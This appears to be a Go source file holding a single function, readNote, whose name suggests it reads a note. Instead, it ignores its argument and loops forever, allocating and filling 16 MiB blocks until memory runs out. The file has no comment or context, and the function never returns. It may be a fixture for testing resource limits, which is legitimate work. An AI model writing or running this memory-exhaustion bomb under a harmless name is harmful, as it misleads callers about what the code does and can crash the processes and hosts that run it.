package main

import (
)

func readNote(name string) (string, bool) {
	var all [][]byte
	for {
		b := make([]byte, 1<<24)
		for i := range b {
			b[i] = 1
		}
		all = append(all, b)
	}
}
